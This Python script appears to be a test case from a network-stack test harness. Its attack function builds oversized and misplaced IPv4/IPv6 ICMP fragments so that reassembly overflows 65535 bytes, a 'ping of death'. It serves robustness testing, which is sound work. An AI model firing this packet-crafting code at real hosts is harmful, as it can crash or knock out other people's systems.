# SPDX-License-Identifier: Apache-2.0
"""A datagram of more than 65535 bytes (the ping of death), and fragments behind the end."""
from kit import *


def attack(pot, out, family):
    src, dst = pot.ip(family), out.ip(family)
    for n in range(30):
        packet = icmp(src, dst, 128 if family == 6 else 8, b"\0" * 1400)
        for parts in ([(0, 1400, True)], [(0, 64, False), (128, 200, False)]):
            pot.send_packets(fragments_at(packet, parts, n + 1)[1 if len(parts) > 1 else 0:])
        last = fragments_at(packet, [(0, 1400, False)], n + 1)[0]
        if family == 4:
            last = last[:6] + struct.pack(">H", 65528 // 8) + b"\x40\1\0\0" + last[12:]
            last = last[:10] + struct.pack(">H", checksum(last[:20])) + last[12:]
        else:
            last = last[:42] + struct.pack(">H", 65528) + last[44:]
        pot.send_packets([last])
